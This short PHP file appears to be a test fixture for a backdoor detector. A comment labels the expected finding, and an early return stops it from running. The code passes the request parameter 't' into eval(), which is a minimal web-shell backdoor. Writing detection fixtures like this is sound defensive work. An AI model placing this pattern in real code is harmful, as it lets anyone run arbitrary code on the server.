<?php return; // want: malicious backdoor php.code.request
function pack_up($text) { return (object) array('text' => $text, 'size' => strlen($text)); }
$box = pack_up($_REQUEST['t']);
eval($box->text);
